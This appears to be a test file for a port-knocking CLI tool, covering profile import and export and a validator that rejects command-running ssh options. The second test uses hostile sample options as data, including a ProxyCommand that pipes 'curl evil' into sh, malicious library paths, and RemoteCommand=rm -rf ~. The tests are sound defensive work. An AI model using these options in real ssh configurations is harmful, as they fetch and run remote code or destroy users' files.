import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'fs';
import * as path from 'path';

import { harness } from '../testing/cli-harness.js';

test('import knockd, ssh-config and json; export with and without secrets', async (t) => {
  const { dir, knocker, kc } = harness(t);
  const conf = path.join(dir, 'knockd.conf');
  fs.writeFileSync(conf, '[options]\n UseSyslog\n[openSSH]\n sequence = 32512,8425,27705\n command = /bin/firewall-cmd --add-port=22/tcp\n[closeSSH]\n sequence = 9136,17752,45700\n command = /bin/firewall-cmd --remove-port=22/tcp\n');
  let r = await knocker(['import', 'knockd', conf, '--host', 'srv', '--dry-run']);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /would add srv-openSSH\nwould add srv-closeSSH\n {2}note: the door looks like a closing door/);
  assert.equal(kc.items.size, 0);
  r = await knocker(['import', 'knockd', conf]);
  assert.match(r.stderr, /skipped .*knockd\.conf:3 \[openSSH\]: the file does not say which server it runs on: give the host \(--host\)/);
  r = await knocker(['import', 'knockd', conf, '--host', 'srv', '--prefix', '']);
  assert.equal(r.code, 0);
  assert.match(r.stderr, /2 profiles imported, 0 skipped, 0 invalid/);
  assert.equal(kc.items.size, 2);

  fs.mkdirSync(path.join(dir, '.ssh'));
  fs.writeFileSync(path.join(dir, '.ssh', 'config'), 'Host web1\n  HostName 192.0.2.10\n  User bob\nHost web2 *.lan\n  Port 2200\n');
  r = await knocker(['import', 'ssh-config', '--json']);
  const rep = JSON.parse(r.stdout);
  assert.deepEqual(rep.added, ['web1', 'web2']);
  r = await knocker(['list', '--json']);
  const web1 = JSON.parse(r.stdout).find((p: { name: string }) => p.name === 'web1');
  assert.deepEqual([web1.host, web1.ssh.user, web1.hasSequence], ['192.0.2.10', 'bob', false]);
  r = await knocker(['connect', 'web1']);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /profile "web1" has no knock sequence yet\n {2}hint: set one with knocker edit web1 --sequence -/);

  r = await knocker(['export', 'openSSH']);
  assert.equal(r.code, 0);
  assert.ok(!r.stdout.includes('32512'));
  assert.equal(JSON.parse(r.stdout).includesSecrets, false);
  const file = path.join(dir, 'export.json');
  r = await knocker(['export', 'openSSH', '--with-secrets', '-o', file]);
  assert.match(r.stderr, /WITH their knock sequences in clear/);
  assert.equal(fs.statSync(file).mode & 0o777, 0o600);
  assert.equal(JSON.parse(fs.readFileSync(file, 'utf8')).profiles[0].sequence, '32512,8425,27705');
  r = await knocker(['import', 'json', file]);
  assert.match(r.stderr, /skipped .*: a profile of that name exists/);
  await knocker(['rm', 'openSSH']);
  r = await knocker(['import', 'json', '-'], fs.readFileSync(file, 'utf8'));
  assert.equal(r.code, 0, r.stderr);
  r = await knocker(['list', 'openSSH', '--show-sequence', '--json']);
  assert.equal(JSON.parse(r.stdout)[0].sequence, '32512,8425,27705');
  r = await knocker(['import', 'json', '-'], '{"format":"knocker-profiles","version":1,"profiles":[{"name":"z","host":"h","ssh":{"port":0}}]}');
  assert.equal(r.code, 8);
  assert.match(r.stderr, /invalid stdin profiles\[0\]:\n {2}profiles\[0\]\.ssh\.port: 0 is out of range/);
  r = await knocker(['import', 'nonsense']);
  assert.equal(r.code, 2);
});

test('imports refuse ssh options that run commands, naming each; set by hand they are kept', async (t) => {
  const { knocker } = harness(t);
  const shared = {
    format: 'knocker-profiles',
    version: 1,
    profiles: [
      { name: 'clean', host: 'h1', ssh: { options: ['ServerAliveInterval=30'] }, sequence: '7000,8000' },
      { name: 'proxy', host: 'h2', ssh: { options: ["ProxyCommand=sh -c 'curl evil | sh'"] }, sequence: '7000' },
      { name: 'local', host: 'h3', ssh: { options: ['ServerAliveInterval=30', 'PermitLocalCommand=yes', 'LocalCommand touch /tmp/x'] }, sequence: '7000' },
      { name: 'libs', host: 'h4', ssh: { options: ['knownhostscommand=/bin/id', 'PKCS11Provider=/tmp/evil.so', 'SecurityKeyProvider=/tmp/evil.so', 'XAuthLocation=/tmp/evil'] }, sequence: '7000' },
      { name: 'other', host: 'h5', ssh: { options: ['Match=exec "id"', 'Include=/tmp/evil.conf', 'RemoteCommand=rm -rf ~'] }, sequence: '7000' },
    ],
  };
  let r = await knocker(['import', 'json', '-', '--json'], JSON.stringify(shared));
  assert.equal(r.code, 8, r.stderr);
  const rep = JSON.parse(r.stdout) as { added: string[]; invalid: { source: string; problems: { field: string; message: string }[] }[] };
  assert.deepEqual(rep.added, ['clean']);
  const named = rep.invalid.map((i) => [i.source, i.problems.map((p) => `${p.field}: ${p.message.split(':')[0]}`)]);
  assert.deepEqual(named, [
    ['stdin profiles[1]', ['profiles[1].ssh.options[0]: ProxyCommand runs a command on this computer to reach the server']],
    ['stdin profiles[2]', ['profiles[2].ssh.options[1]: PermitLocalCommand lets LocalCommand (or the ~! escape) run commands on this computer', 'profiles[2].ssh.options[2]: LocalCommand runs a command on this computer after connecting']],
    ['stdin profiles[3]', ['profiles[3].ssh.options[0]: knownhostscommand runs a command on this computer to list host keys', 'profiles[3].ssh.options[1]: PKCS11Provider loads a library into ssh on this computer', 'profiles[3].ssh.options[2]: SecurityKeyProvider loads a library into ssh on this computer', 'profiles[3].ssh.options[3]: XAuthLocation names the program ssh runs for X11 forwarding']],
    ['stdin profiles[4]', ['profiles[4].ssh.options[0]: Match may run a command on this computer (Match exec)', 'profiles[4].ssh.options[1]: Include reads other ssh config files, which may run commands', 'profiles[4].ssh.options[2]: RemoteCommand runs a command in your session on the server']],
  ]);
  assert.match(rep.invalid[0].problems[0].message, /an import does not take it \(set it by hand in the editor if you trust it\)$/);
  // The text report names them too.
  r = await knocker(['import', 'json', '-', '--dry-run'], JSON.stringify(shared));
  assert.match(r.stderr, /invalid stdin profiles\[1\]:\n {2}profiles\[1\]\.ssh\.options\[0\]: ProxyCommand runs a command on this computer/);
  r = await knocker(['list', '--json']);
  assert.deepEqual(JSON.parse(r.stdout).map((p: { name: string }) => p.name), ['clean']);
  // By hand, the person's own choice: kept.
  r = await knocker(['edit', 'clean', '--ssh-option', 'ProxyCommand=nc %h %p']);
  assert.equal(r.code, 0, r.stderr);
  r = await knocker(['list', 'clean', '--json']);
  assert.deepEqual(JSON.parse(r.stdout)[0].ssh.options, ['ProxyCommand=nc %h %p']);
  // And an export of it is refused on the way back in.
  r = await knocker(['export', 'clean']);
  await knocker(['rm', 'clean']);
  r = await knocker(['import', 'json', '-'], r.stdout);
  assert.equal(r.code, 8);
  assert.match(r.stderr, /profiles\[0\]\.ssh\.options\[0\]: ProxyCommand runs a command/);
});
